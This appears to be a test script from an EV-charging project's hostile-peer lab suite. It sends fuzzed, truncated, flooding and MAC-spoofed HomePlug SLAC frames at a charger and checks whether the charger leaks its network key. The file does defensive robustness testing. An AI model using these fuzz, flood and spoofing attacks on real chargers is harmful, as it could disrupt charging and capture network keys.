// The HomePlug attacker of the hostile-peer suite: a station on the powerline, run in the middle
// namespace of the lab (test/hostile/slac-harness.ts) on the modem end of one host's cable, so its
// frames reach that host as if they came through its modem. One attack per run; the last stdout
// line is a JSON report { attack, sent, sendErrors, matchCnfForUs }.
//
//   slac-attacker.ts <ifname> random <count> [seed]
//   slac-attacker.ts <ifname> truncations <dstMac>
//   slac-attacker.ts <ifname> flood <framesPerSecond | max> <durationMs>
//   slac-attacker.ts <ifname> wrong-runid <evseMac> <carMac> <durationMs>
import { openAfPacketPort } from '../../drivers/ethernet/index.js';
import * as hp from '../../src/codecs/homeplug/index.js';
import { formatMac, parseMac } from '../../src/bytes.js';

const [ifname, attack, a1, a2, a3, a4] = process.argv.slice(2);
if (!ifname || !attack) {
  process.stderr.write('usage: slac-attacker.ts <ifname> random|truncations|flood|wrong-runid ...\n');
  process.exit(2);
}
const port = openAfPacketPort(ifname, { etherTypes: [0x88e1] });
const BCAST = new Uint8Array(6).fill(0xff);
let sent = 0;
let sendErrors = 0;
let matchCnfForUs = 0;
const ourRunIds = new Set<string>();

/** mulberry32: the same seed gives the same attack. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const foreignMac = (i: number): Uint8Array => new Uint8Array([0x02, 0xee, (i >> 16) & 0xff, (i >> 8) & 0xff, i & 0xff, 0x5a]);
const send = (f: Uint8Array): void => {
  try {
    port.send(f);
    sent++;
  } catch {
    sendErrors++;
  }
};
// Does any CM_SLAC_MATCH.CNF carry one of our RunIDs (the charger gave its NMK to us)?
port.frames$.subscribe((f) => {
  const d = hp.decodeMme(f.data);
  if (d.ok && d.value.type === 'CM_SLAC_MATCH.CNF' && ourRunIds.has(Buffer.from(d.value.runId).toString('hex'))) matchCnfForUs++;
});
const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));
const report = (extra: Record<string, unknown> = {}): void => {
  process.stdout.write(JSON.stringify({ attack, sent, sendErrors, matchCnfForUs, ...extra }) + '\n');
};

/** One valid frame of each SLAC message, from `src` to `dst`. */
function slacMessages(src: Uint8Array, dst: Uint8Array): Array<{ name: string; frame: Uint8Array }> {
  const runId = Uint8Array.from([1, 2, 3, 4, 5, 6, 7, 8]);
  const z17 = new Uint8Array(17);
  const mmes: hp.Mme[] = [
    hp.cmSlacParmReq({ src, dst: BCAST, runId }),
    hp.cmSlacParmCnf({ src, dst, runId, forwardingSta: src }),
    hp.cmStartAttenCharInd({ src, dst: BCAST, runId, forwardingSta: src }),
    hp.cmMnbcSoundInd({ src, dst: BCAST, runId, cnt: 3 }),
    hp.cmAttenProfileInd({ src, dst, pevMac: src, aag: new Array<number>(58).fill(20) }),
    hp.cmAttenCharInd({ src, dst, runId, sourceAddress: src, aag: new Array<number>(58).fill(20) }),
    hp.cmAttenCharRsp({ src, dst, runId, sourceAddress: src }),
    hp.cmValidateReq({ src, dst, timer: 0, result: 1 }),
    hp.cmValidateCnf({ src, dst }),
    hp.cmSlacMatchReq({ src, dst, runId, pevId: z17, pevMac: src, evseId: z17, evseMac: dst }),
    hp.cmSlacMatchCnf({ src, dst, runId, pevId: z17, pevMac: src, evseId: z17, evseMac: dst, nid: new Uint8Array(7), nmk: new Uint8Array(16) }),
  ];
  return mmes.map((m) => ({ name: m.type, frame: hp.encodeMme(m) }));
}

async function main(): Promise<void> {
  if (attack === 'random') {
    // Random 0x88E1 frames: random MMV/MMTYPE/payload, random length 15–1514, foreign source MACs.
    const count = Number(a1 ?? 1000);
    const r = rng(Number(a2 ?? 1));
    for (let i = 0; i < count; i++) {
      const len = 15 + Math.floor(r() * 1500);
      const f = new Uint8Array(len);
      for (let k = 14; k < len; k++) f[k] = Math.floor(r() * 256);
      f.set(r() < 0.5 ? BCAST : foreignMac(i), 0);
      f.set(foreignMac(i + 1), 6);
      f[12] = 0x88;
      f[13] = 0xe1;
      // Half of them with a SLAC MMTYPE, so they reach the MME decoders rather than the unknown-type path.
      if (r() < 0.5) {
        f[14] = 1;
        const types = [0x6064, 0x6065, 0x606a, 0x6076, 0x6086, 0x606e, 0x606f, 0x6078, 0x6079, 0x607c, 0x607d, 0x6008, 0x6009];
        const t = types[Math.floor(r() * types.length)] as number;
        f[15] = t & 0xff;
        f[16] = t >> 8;
      }
      send(f);
      if (i % 50 === 49) await sleep(1);
    }
    report();
  } else if (attack === 'truncations') {
    // Every truncation of each SLAC message (the wire pads below 60 bytes with zeros, as a modem does).
    const dst = parseMac(a1 ?? '') ?? BCAST;
    let n = 0;
    for (const { frame } of slacMessages(foreignMac(7), dst)) {
      for (let len = 14; len < frame.length; len++) {
        send(frame.slice(0, len));
        if (++n % 50 === 0) await sleep(1);
      }
    }
    report({ messages: slacMessages(foreignMac(7), dst).length });
  } else if (attack === 'flood') {
    // CM_SLAC_PARM.REQ from a new foreign MAC each time, at a rate or as fast as the socket takes them.
    const max = a1 === 'max';
    const rate = max ? Infinity : Number(a1);
    const until = Date.now() + Number(a2 ?? 5000);
    let i = 0;
    while (Date.now() < until) {
      const runId = Uint8Array.from([0xf1, 0, 0, 0, (i >> 24) & 0xff, (i >> 16) & 0xff, (i >> 8) & 0xff, i & 0xff]);
      send(hp.encodeMme(hp.cmSlacParmReq({ src: foreignMac(i), dst: BCAST, runId })));
      i++;
      if (max) {
        // Yield now and then so the socket's queue drains and the process stays responsive.
        if (i % 200 === 0) await new Promise((r) => setImmediate(r));
      } else await sleep(1000 / rate);
    }
    report({ durationMs: Number(a2 ?? 5000) });
  } else if (attack === 'wrong-runid') {
    // CM_SLAC_MATCH.REQ to the charger with RunIDs it never saw, from a foreign MAC and spoofing the car's.
    const evse = parseMac(a1 ?? '') ?? BCAST;
    const car = parseMac(a2 ?? '') ?? foreignMac(3);
    const until = Date.now() + Number(a3 ?? 5000);
    let i = 0;
    while (Date.now() < until) {
      const runId = Uint8Array.from([0xba, 0xd0, 0, 0, 0, 0, (i >> 8) & 0xff, i & 0xff]);
      ourRunIds.add(Buffer.from(runId).toString('hex'));
      const src = i % 2 === 0 ? foreignMac(9) : car;
      const z17 = new Uint8Array(17);
      send(hp.encodeMme(hp.cmSlacMatchReq({ src, dst: evse, runId, pevId: z17, pevMac: src, evseId: z17, evseMac: evse })));
      i++;
      await sleep(50);
    }
    await sleep(300);
    report({ spoofed: formatMac(car) });
  } else {
    process.stderr.write(`unknown attack ${attack}\n`);
    process.exit(2);
  }
  void a4;
  port.close();
}

void main().then(
  () => process.exit(0),
  (e: unknown) => {
    process.stderr.write(`attacker failed: ${e instanceof Error ? e.stack : String(e)}\n`);
    process.exit(1);
  },
);
